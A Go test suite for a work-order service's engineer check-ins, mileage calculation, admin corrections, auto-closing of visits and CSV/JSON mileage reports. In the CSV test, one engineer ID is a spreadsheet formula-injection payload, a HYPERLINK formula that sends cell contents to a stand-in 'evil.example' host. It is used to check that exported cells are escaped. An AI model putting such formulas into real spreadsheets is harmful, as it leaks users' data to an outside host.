package workorder_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"maps"
	"math"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"wxchannel/shared/local/testenv"
	"wxchannel/shared/staffauth"
	"wxchannel/shared/workorder"
)

// beijing is China's one zone, UTC+8 all year.
var beijing = time.FixedZone("CST", 8*60*60)

// Two sites 10 km apart, north and south (0.09° of latitude).
const (
	southLat, siteLng = 31.2304, 121.4737
	northLat          = 31.3204
)

// siteToSiteM is what a leg between the two sites counts, in metres.
var siteToSiteM = int(workorder.DistanceKm(southLat, siteLng, northLat, siteLng)*1000 + 0.5)

// fieldWork is the product with engineers visiting orders seeded straight
// into the table, assigned to them and en route.
type fieldWork struct {
	t *testing.T
	a *testenv.API
	n int
}

func newFieldWork(t *testing.T) *fieldWork { return &fieldWork{t: t, a: newAPI(t)} }

// order seeds an order of tenant at lat, siteLng assigned to engineer and
// on the way, and returns its id.
func (f *fieldWork) order(tenant, engineer string, lat float64) string {
	f.t.Helper()
	f.n++
	o := offer{tenant: tenant, id: offerID(0xf000 + f.n), lat: lat, lng: siteLng}.order(f.a.Clock.Now(), "The compressor makes a grinding noise")
	o.Status, o.EngineerID, o.CellPK, o.CellSK = workorder.StatusEnRoute, engineer, "", ""
	if err := f.a.DB.Service.Put(o).Run(context.Background()); err != nil {
		f.t.Fatal(err)
	}
	return o.ID
}

// at moves the clock on to t.
func (f *fieldWork) at(t time.Time) {
	f.t.Helper()
	d := t.Sub(f.a.Clock.Now())
	if d < 0 {
		f.t.Fatalf("the clock is past %v already", t)
	}
	f.a.Clock.Advance(d)
}

func (f *fieldWork) engineer(tenant, id string) string {
	return f.a.Staff(tenant, id, staffauth.RoleEngineer)
}

func (f *fieldWork) admin(tenant string) string {
	return f.a.Staff(tenant, "admin-1", staffauth.RoleAdmin)
}

func (f *fieldWork) checkIn(tenant, engineer, order string, lat float64) testenv.Reply {
	f.t.Helper()
	return f.a.Do("POST", "/engineer/work-orders/"+order+"/check-in", f.engineer(tenant, engineer), map[string]any{"latitude": lat, "longitude": siteLng})
}

func (f *fieldWork) checkOut(tenant, engineer, order string, lat float64) testenv.Reply {
	f.t.Helper()
	return f.a.Do("POST", "/engineer/work-orders/"+order+"/check-out", f.engineer(tenant, engineer), map[string]any{"latitude": lat, "longitude": siteLng})
}

// settings saves a tenant's settings: the defaults with changes.
func (f *fieldWork) settings(tenant string, changes map[string]any) {
	f.t.Helper()
	body := map[string]any{"guest_access": true, "max_checkin_distance_m": 500, "version": 0}
	maps.Copy(body, changes)
	f.a.Must(f.a.Do("PUT", "/admin/portal/settings", f.admin(tenant), body), 200)
}

// runJob runs the visitclose job as EventBridge would.
func (f *fieldWork) runJob() workorder.VisitCloseSummary {
	f.t.Helper()
	res, err := f.a.Jobs["visitclose"].Run(context.Background())
	if err != nil {
		f.t.Fatalf("visitclose: %v", err)
	}
	return res.(workorder.VisitCloseSummary)
}

// report is the admin's mileage report of tenant for the local dates.
func (f *fieldWork) report(tenant, from, to string) testenv.Reply {
	f.t.Helper()
	return f.a.Must(f.a.Do("GET", "/admin/mileage?from="+from+"&to="+to, f.admin(tenant), nil), 200)
}

// days summarises an engineer's days ("date visits km").
func days(list []any) []string {
	out := []string{}
	for _, d := range list {
		m := d.(map[string]any)
		out = append(out, fmt.Sprintf("%s %v %.2f", m["date"], m["visits"], m["km"]))
	}
	return out
}

// kmOf is m metres as the reports round them, to 10 m.
func kmOf(m int) string { return fmt.Sprintf("%.2f", math.Round(float64(m)/10)/100) }

// dig walks decoded JSON: a string indexes an object, an int a list.
func dig(v any, path ...any) any {
	for _, p := range path {
		switch k := p.(type) {
		case string:
			m, _ := v.(map[string]any)
			v = m[k]
		case int:
			l, _ := v.([]any)
			if k >= len(l) {
				return nil
			}
			v = l[k]
		}
	}
	return v
}

func digMap(v any, path ...any) map[string]any {
	m, _ := dig(v, path...).(map[string]any)
	return m
}

func TestMileageCountsTheTenantsLocalDays(t *testing.T) {
	f := newFieldWork(t)
	f.settings("globex", map[string]any{"time_zone": "UTC"})
	local := func(h, m int) time.Time { return time.Date(2026, 11, 25, h, m, 0, 0, beijing) }
	plan := []struct {
		lat     float64
		in, out time.Time
	}{
		{southLat, local(7, 0), local(7, 30)},   // 23:00 UTC, the day before in UTC
		{northLat, local(9, 0), local(10, 0)},   // past 08:00, the UTC midnight: 10 km the same local day
		{southLat, local(23, 0), local(23, 40)}, // 10 km back
		{northLat, local(24, 30), local(25, 0)}, // 00:30 the next local day: no leg across midnight
	}
	tenants := []string{"acme", "globex"}
	orders := map[string][]string{}
	for _, tenant := range tenants {
		for _, p := range plan {
			orders[tenant] = append(orders[tenant], f.order(tenant, "eng-1", p.lat))
		}
	}
	for i, p := range plan {
		f.at(p.in)
		for _, tenant := range tenants {
			f.a.Must(f.checkIn(tenant, "eng-1", orders[tenant][i], p.lat), 201)
		}
		f.at(p.out)
		for _, tenant := range tenants {
			f.a.Must(f.checkOut(tenant, "eng-1", orders[tenant][i], p.lat), 200)
		}
	}
	two := kmOf(2 * siteToSiteM)
	for tenant, want := range map[string][]string{
		"acme":   {"2026-11-25 3 " + two, "2026-11-26 1 0.00"}, // Asia/Shanghai, the default
		"globex": {"2026-11-24 1 0.00", "2026-11-25 3 " + two}, // UTC
	} {
		r := f.a.Must(f.a.Do("GET", "/engineer/mileage?from=2026-11-24&to=2026-11-26", f.engineer(tenant, "eng-1"), nil), 200)
		if got := days(r.List("days")); !slices.Equal(got, want) {
			t.Errorf("%s: days %v, want %v\n%s", tenant, got, want, r.Raw)
		}
		if fmt.Sprintf("%.2f", r.Get("total_km")) != two {
			t.Errorf("%s: total %v, want %s", tenant, r.Get("total_km"), two)
		}
	}
	// The case: 07:00 and 09:00 in Beijing, 10 km apart, one day.
	r := f.a.Must(f.a.Do("GET", "/engineer/mileage?from=2026-11-25&to=2026-11-25", f.engineer("acme", "eng-1"), nil), 200)
	first := digMap(r.Body, "days", 0, "legs", 0)
	if r.Str("time_zone") != "Asia/Shanghai" || first == nil || first["from_order_id"] != orders["acme"][0] ||
		first["to_order_id"] != orders["acme"][1] || fmt.Sprintf("%.2f", first["km"]) != kmOf(siteToSiteM) {
		t.Fatalf("the 07:00 → 09:00 leg: %s", r.Raw)
	}
}

func TestCheckInLoopAtOneSiteClaimsNothingAndHitsTheLimits(t *testing.T) {
	f := newFieldWork(t)
	id := f.order("acme", "eng-1", southLat)
	// 40 check-in/check-out cycles in 40 seconds from points 450 m north
	// and south of the site, inside the radius: the old rules counted
	// 0.9 km a cycle.
	accepted := 0
	for i := range 40 {
		lat := southLat + 0.004*float64(1-2*(i%2))
		r := f.checkIn("acme", "eng-1", id, lat)
		switch {
		case r.Status == 201:
			accepted++
			f.a.Must(f.checkOut("acme", "eng-1", id, -lat+2*southLat), 200)
		case r.Status == 429 && r.ErrorCode() == "checkin_limit" && r.Header.Get("Retry-After") != "":
		default:
			t.Fatalf("cycle %d: %d %s", i, r.Status, r.Raw)
		}
		f.a.Clock.Advance(time.Second)
	}
	if accepted != workorder.MaxCheckinsPerHour {
		t.Fatalf("%d check-ins accepted in 40 s, want %d", accepted, workorder.MaxCheckinsPerHour)
	}
	// Then one every 10 minutes until the day's 20 are used up: refused
	// for the rest of the local day, which ends at 16:00 UTC.
	limited := ""
	for limited == "" && accepted < 30 {
		f.a.Clock.Advance(10 * time.Minute)
		r := f.checkIn("acme", "eng-1", id, southLat)
		switch {
		case r.Status == 201:
			accepted++
			f.a.Must(f.checkOut("acme", "eng-1", id, southLat), 200)
		case r.Status == 429 && r.Get("error", "details", "limit") == "day":
			limited = r.Header.Get("Retry-After")
		case r.Status != 429:
			t.Fatalf("%d %s", r.Status, r.Raw)
		}
	}
	if accepted != 20 || limited == "" {
		t.Fatalf("%d check-ins before the daily limit (Retry-After %q), want 20", accepted, limited)
	}
	today := f.a.Clock.Now().In(beijing).Format(time.DateOnly)
	r := f.a.Must(f.a.Do("GET", "/engineer/mileage?from="+today+"&to="+today, f.engineer("acme", "eng-1"), nil), 200)
	if got := days(r.List("days")); !slices.Equal(got, []string{today + " 20 0.00"}) || dig(r.Body, "days", 0, "legs") == nil || len(dig(r.Body, "days", 0, "legs").([]any)) != 0 {
		t.Fatalf("the loop at one site claimed %v: %s", got, r.Raw)
	}
	f.at(time.Date(2026, 11, 25, 0, 0, 30, 0, beijing))
	f.a.Must(f.checkIn("acme", "eng-1", id, southLat), 201) // a new local day
}

func TestImplausibleLegIsFlaggedUntilAnAdminCorrectsIt(t *testing.T) {
	f := newFieldWork(t)
	f.at(time.Date(2026, 11, 25, 9, 0, 0, 0, beijing))
	start := f.a.Clock.Now()
	south, north := f.order("acme", "eng-1", southLat), f.order("acme", "eng-1", northLat)
	f.a.Must(f.checkIn("acme", "eng-1", south, southLat), 201)
	f.at(start.Add(30 * time.Minute))
	f.a.Must(f.checkOut("acme", "eng-1", south, southLat), 200)
	f.at(start.Add(34 * time.Minute)) // 10 km in 4 minutes: 150 km/h
	f.a.Must(f.checkIn("acme", "eng-1", north, northLat), 201)
	const date = "2026-11-25"
	rep := f.report("acme", date, date)
	leg := digMap(rep.Body, "engineers", 0, "days", 0, "legs", 0)
	if leg == nil || fmt.Sprint(leg["flags"]) != "[implausible_speed]" || leg["km"] != 0.0 || leg["counted"] != false ||
		fmt.Sprintf("%.2f", leg["computed_km"]) != kmOf(siteToSiteM) || rep.Get("total_km") != 0.0 {
		t.Fatalf("the 150 km/h leg: %s", rep.Raw)
	}
	flagged := digMap(rep.Body, "flagged", 0)
	legID, firstVisit := leg["id"].(string), leg["from_visit_id"].(string)
	if flagged == nil || flagged["kind"] != "leg" || flagged["id"] != legID {
		t.Fatalf("flagged %s", rep.Raw)
	}
	admin := f.admin("acme")
	body := func(changes ...any) map[string]any {
		b := map[string]any{"engineer_id": "eng-1", "leg_id": legID, "km": 10.0, "reason": "Drove the G1501; checked in late at the second site"}
		for i := 0; i+1 < len(changes); i += 2 {
			if changes[i+1] == nil {
				delete(b, changes[i].(string))
			} else {
				b[changes[i].(string)] = changes[i+1]
			}
		}
		return b
	}
	for _, tc := range []struct {
		name   string
		token  string
		body   map[string]any
		status int
		code   string
	}{
		{"no reason", admin, body("reason", nil), 400, "invalid_field"},
		{"a reason of spaces", admin, body("reason", "    "), 400, "invalid_field"},
		{"no km", admin, body("km", nil), 400, "invalid_field"},
		{"negative km", admin, body("km", -1), 400, "invalid_field"},
		{"a malformed leg", admin, body("leg_id", "x#y"), 400, "invalid_field"},
		{"a leg that does not exist", admin, body("leg_id", date+".0000000000000000000.261124000000000001"), 404, "not_found"},
		{"the first visit of the day", admin, body("leg_id", firstVisit), 422, "not_a_leg"},
		{"another engineer", admin, body("engineer_id", "eng-2"), 404, "not_found"},
		{"an unknown field", admin, body("tenant_id", "globex"), 400, "unknown_field"},
		{"an engineer", f.engineer("acme", "eng-1"), body(), 403, "forbidden_role"},
		{"another tenant's admin", f.admin("globex"), body(), 404, "not_found"},
	} {
		r := f.a.Do("POST", "/admin/mileage/corrections", tc.token, tc.body)
		if r.Status != tc.status || r.ErrorCode() != tc.code {
			t.Errorf("%s: %d %s, want %d %s", tc.name, r.Status, r.Raw, tc.status, tc.code)
		}
	}
	saved := f.a.Must(f.a.Do("POST", "/admin/mileage/corrections", admin, body()), 201)
	if saved.Get("correction", "old_km") != 0.0 || saved.Get("correction", "new_km") != 10.0 || saved.Str("correction", "by") != "admin-1" ||
		saved.Get("leg", "km") != 10.0 || saved.Get("leg", "counted") != true {
		t.Fatalf("correction %s", saved.Raw)
	}
	rep = f.report("acme", date, date)
	if rep.Get("total_km") != 10.0 || dig(rep.Body, "engineers", 0, "days", 0, "legs", 0, "correction", "reason") != body()["reason"] ||
		dig(rep.Body, "flagged", 0, "corrected") != true {
		t.Fatalf("the corrected report %s", rep.Raw)
	}
	f.a.Clock.Advance(time.Minute)
	f.a.Must(f.a.Do("POST", "/admin/mileage/corrections", admin, body("km", 9.5, "reason", "The odometer says 9.5 km")), 201)
	trail := f.a.Must(f.a.Do("GET", "/admin/mileage/corrections?from="+date+"&to="+date, admin, nil), 200).List("corrections")
	if len(trail) != 2 {
		t.Fatalf("audit trail %v", trail)
	}
	last := trail[1].(map[string]any)
	if last["old_km"] != 10.0 || last["new_km"] != 9.5 || last["leg_id"] != legID || last["by"] != "admin-1" ||
		fmt.Sprintf("%.2f", last["computed_km"]) != kmOf(siteToSiteM) {
		t.Fatalf("audit entry %v", last)
	}
	if got := f.a.Must(f.a.Do("GET", "/admin/mileage/corrections?from="+date+"&to="+date, f.admin("globex"), nil), 200).List("corrections"); len(got) != 0 {
		t.Fatalf("another tenant sees the corrections: %v", got)
	}
}

func TestCheckOutFarFromTheSiteIsStoredAndFlagged(t *testing.T) {
	f := newFieldWork(t)
	f.settings("globex", map[string]any{"max_checkout_distance_m": 20000})
	for tenant, wantFlags := range map[string]string{"acme": "[checkout_far]", "globex": "<nil>"} {
		id := f.order(tenant, "eng-1", southLat)
		f.a.Must(f.checkIn(tenant, "eng-1", id, southLat), 201)
		out := f.a.Must(f.checkOut(tenant, "eng-1", id, southLat+0.135), 200) // 15 km north
		if d := out.Get("check_out", "distance_m").(float64); d < 14900 || d > 15100 || fmt.Sprint(out.Get("flags")) != wantFlags ||
			out.Str("closed_by") != "engineer" || out.Get("check_out", "latitude") != southLat+0.135 {
			t.Errorf("%s: check-out 15 km away: %s", tenant, out.Raw)
		}
	}
	today := f.a.Clock.Now().In(beijing).Format(time.DateOnly)
	flagged := digMap(f.report("acme", today, today).Body, "flagged", 0)
	if flagged == nil || flagged["kind"] != "visit" || fmt.Sprint(flagged["flags"]) != "[checkout_far]" || flagged["check_out_distance_m"].(float64) < 14900 {
		t.Fatalf("flagged %v", flagged)
	}
	// A check-out on site is not flagged.
	id := f.order("acme", "eng-2", southLat)
	f.a.Must(f.checkIn("acme", "eng-2", id, southLat), 201)
	if out := f.a.Must(f.checkOut("acme", "eng-2", id, southLat+0.001), 200); out.Get("flags") != nil {
		t.Fatalf("check-out on site flagged: %s", out.Raw)
	}
}

func TestForgottenVisitIsClosedAtTheTenantsLimit(t *testing.T) {
	f := newFieldWork(t)
	f.settings("globex", map[string]any{"auto_checkout_hours": 2})
	f.at(time.Date(2026, 11, 25, 8, 30, 0, 0, beijing))
	start := f.a.Clock.Now()
	acme, acmeNext, globex := f.order("acme", "eng-1", southLat), f.order("acme", "eng-1", northLat), f.order("globex", "eng-1", southLat)
	f.a.Must(f.checkIn("acme", "eng-1", acme, southLat), 201)
	f.a.Must(f.checkIn("globex", "eng-1", globex, southLat), 201)
	if sum := f.runJob(); sum.Closed != 0 {
		t.Fatalf("nothing is due yet: %+v", sum)
	}
	f.at(start.Add(2*time.Hour + time.Minute))
	if sum := f.runJob(); sum.Closed != 1 || sum.Failed != 0 {
		t.Fatalf("globex's 2-hour visit: %+v", sum)
	}
	f.a.MustError(f.checkOut("globex", "eng-1", globex, southLat), 409, "not_checked_in")
	f.a.MustError(f.checkIn("acme", "eng-1", acmeNext, northLat), 409, "already_checked_in") // 12 hours for acme
	f.at(start.Add(12*time.Hour + 5*time.Minute))
	if sum := f.runJob(); sum.Closed != 1 {
		t.Fatalf("acme's 12-hour visit: %+v", sum)
	}
	if sum := f.runJob(); sum.Closed != 0 || sum.Skipped != 0 {
		t.Fatalf("a second run: %+v", sum)
	}
	f.at(start.Add(12*time.Hour + 30*time.Minute))
	f.a.Must(f.checkIn("acme", "eng-1", acmeNext, northLat), 201)
	rep := f.report("acme", "2026-11-25", "2026-11-25")
	visit, leg := digMap(rep.Body, "flagged", 0), digMap(rep.Body, "engineers", 0, "days", 0, "legs", 0)
	if visit == nil || fmt.Sprint(visit["flags"]) != "[auto_closed]" || int64(visit["check_out_at"].(float64)) != start.Add(12*time.Hour).Unix() ||
		leg == nil || int64(leg["departed_at"].(float64)) != start.Add(12*time.Hour).Unix() || leg["counted"] != true {
		t.Fatalf("the auto-closed visit ends at its limit: %s", rep.Raw)
	}
}

func TestCheckOutRacingTheAutoCloseLeavesOneResult(t *testing.T) {
	f := newFieldWork(t)
	const engineers = 8
	ids := make([]string, engineers)
	for i := range ids {
		ids[i] = f.order("acme", fmt.Sprint("eng-", i), southLat)
		f.a.Must(f.checkIn("acme", fmt.Sprint("eng-", i), ids[i], southLat), 201)
	}
	due := f.a.Clock.Now().Add(12 * time.Hour)
	f.at(due.Add(time.Minute))
	tokens := make([]string, engineers)
	for i := range tokens {
		tokens[i] = f.engineer("acme", fmt.Sprint("eng-", i))
	}
	replies := make([]testenv.Reply, engineers)
	var sum workorder.VisitCloseSummary
	var jobErr error
	var wg sync.WaitGroup
	wg.Go(func() {
		var res any
		res, jobErr = f.a.Jobs["visitclose"].Run(context.Background())
		sum, _ = res.(workorder.VisitCloseSummary)
	})
	for i := range ids {
		wg.Go(func() {
			replies[i] = f.a.Do("POST", "/engineer/work-orders/"+ids[i]+"/check-out", tokens[i], map[string]any{"latitude": southLat, "longitude": siteLng})
		})
	}
	wg.Wait()
	if jobErr != nil {
		t.Fatal(jobErr)
	}
	engineerWon := 0
	for i, r := range replies {
		switch {
		case r.Status == 200:
			engineerWon++
		case r.Status != 409 || (r.ErrorCode() != "visit_auto_closed" && r.ErrorCode() != "not_checked_in"):
			t.Errorf("engineer %d: %d %s", i, r.Status, r.Raw)
		}
	}
	if sum.Closed+engineerWon != engineers || sum.Failed != 0 {
		t.Fatalf("job %+v and %d engineers' check-outs closed %d visits", sum, engineerWon, engineers)
	}
	// Whoever won, each visit ended at its limit, flagged, once.
	flagged := f.report("acme", due.Add(-12*time.Hour).In(beijing).Format(time.DateOnly), due.In(beijing).Format(time.DateOnly)).List("flagged")
	if len(flagged) != engineers {
		t.Fatalf("flagged %v", flagged)
	}
	for _, v := range flagged {
		m := v.(map[string]any)
		if !slices.Contains(m["flags"].([]any), any("auto_closed")) || int64(m["check_out_at"].(float64)) != due.Unix() {
			t.Errorf("visit %v", m)
		}
	}
	if again := f.runJob(); again.Closed != 0 {
		t.Fatalf("closed twice: %+v", again)
	}
	for i := range ids {
		f.a.Must(f.checkIn("acme", fmt.Sprint("eng-", i), ids[i], southLat), 201) // no marker left behind
	}
}

func TestAdminMileageReportAsJSONAndCSV(t *testing.T) {
	f := newFieldWork(t)
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	f.settings("acme", map[string]any{"mileage_rate_fen_per_km": 150})
	f.at(time.Date(2026, 11, 25, 9, 0, 0, 0, beijing))
	start := f.a.Clock.Now()
	people := []struct{ tenant, engineer string }{{"acme", "eng-1"}, {"acme", evil}, {"globex", "eng-9"}}
	sites := map[string][2]string{}
	for _, p := range people {
		sites[p.engineer] = [2]string{f.order(p.tenant, p.engineer, southLat), f.order(p.tenant, p.engineer, northLat)}
	}
	// The phones claim points 330 m inside the 10 km: legs are measured
	// between the sites all the same.
	for leg, lat := range []float64{southLat, northLat} {
		f.at(start.Add(time.Duration(leg) * time.Hour))
		for _, p := range people {
			f.a.Must(f.checkIn(p.tenant, p.engineer, sites[p.engineer][leg], lat+0.003*float64(1-2*leg)), 201)
		}
		f.at(start.Add(time.Duration(leg)*time.Hour + 30*time.Minute))
		for _, p := range people {
			f.a.Must(f.checkOut(p.tenant, p.engineer, sites[p.engineer][leg], lat), 200)
		}
	}
	const date = "2026-11-25"
	rep := f.report("acme", date, date)
	amount := (int64(siteToSiteM)*150 + 500) / 1000
	var ids []string
	for _, e := range rep.List("engineers") {
		m := e.(map[string]any)
		ids = append(ids, m["engineer_id"].(string))
		if fmt.Sprintf("%.2f", m["total_km"]) != kmOf(siteToSiteM) || int64(m["amount_fen"].(float64)) != amount {
			t.Errorf("engineer %v", m)
		}
	}
	if !slices.Equal(ids, []string{evil, "eng-1"}) || rep.Get("rate_fen_per_km") != 150.0 || int64(rep.Get("amount_fen").(float64)) != 2*amount ||
		fmt.Sprintf("%.2f", rep.Get("total_km")) != kmOf(2*siteToSiteM) || rep.Str("time_zone") != "Asia/Shanghai" {
		t.Fatalf("report %s", rep.Raw)
	}
	legID, _ := dig(rep.Body, "engineers", 0, "days", 0, "legs", 0, "id").(string)
	f.a.Must(f.a.Do("POST", "/admin/mileage/corrections", f.admin("acme"), map[string]any{"engineer_id": evil, "leg_id": legID, "km": 12,
		"reason": "=1+1 detour via the ring road"}), 201)

	// Another tenant's engineers never appear; one engineer can be asked for.
	if got := f.report("globex", date, date).List("engineers"); len(got) != 1 || got[0].(map[string]any)["engineer_id"] != "eng-9" {
		t.Fatalf("globex's report %v", got)
	}
	one := f.a.Must(f.a.Do("GET", "/admin/mileage?from="+date+"&to="+date+"&engineer_id=eng-1", f.admin("acme"), nil), 200)
	if got := one.List("engineers"); len(got) != 1 || got[0].(map[string]any)["engineer_id"] != "eng-1" {
		t.Fatalf("eng-1 alone: %s", one.Raw)
	}

	r := f.a.Must(f.a.Do("GET", "/admin/mileage?from="+date+"&to="+date+"&format=csv", f.admin("acme"), nil), 200)
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") || !strings.Contains(r.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("CSV headers %v", r.Header)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Raw, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]bool{}
	for _, row := range rows {
		for _, c := range row {
			cells[c] = true
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q would run as a formula", c)
			}
		}
	}
	for _, want := range []string{"'" + evil, "'=1+1 detour via the ring road", "leg", "day", "engineer", "12", fmt.Sprint(amount), "eng-1"} {
		if !cells[want] {
			t.Errorf("the CSV has no cell %q:\n%s", want, r.Raw)
		}
	}
	if cells["eng-9"] || rows[0][0] != "record" {
		t.Fatalf("CSV %s", r.Raw)
	}

	for _, tc := range []struct {
		query, token string
		status       int
		code         string
	}{
		{"from=2026-11-01&to=2026-12-01", f.admin("acme"), 200, ""}, // 31 days
		{"from=2026-11-01&to=2026-12-02", f.admin("acme"), 400, "invalid_period"},
		{"from=2026-11-25&to=2026-11-24", f.admin("acme"), 400, "invalid_period"},
		{"from=25.11.2026&to=2026-11-25", f.admin("acme"), 400, "invalid_period"},
		{"from=2026-11-25&to=2026-11-25&format=xlsx", f.admin("acme"), 400, "invalid_field"},
		{"from=2026-11-25&to=2026-11-25&engineer_id=%01", f.admin("acme"), 400, "invalid_field"},
		{"from=2026-11-25&to=2026-11-25", f.engineer("acme", "eng-1"), 403, "forbidden_role"},
		{"from=2026-11-25&to=2026-11-25", "", 401, "missing_token"},
	} {
		r := f.a.Do("GET", "/admin/mileage?"+tc.query, tc.token, nil)
		if r.Status != tc.status || r.ErrorCode() != tc.code {
			t.Errorf("%s: %d %s, want %d %s", tc.query, r.Status, r.Raw, tc.status, tc.code)
		}
	}
}
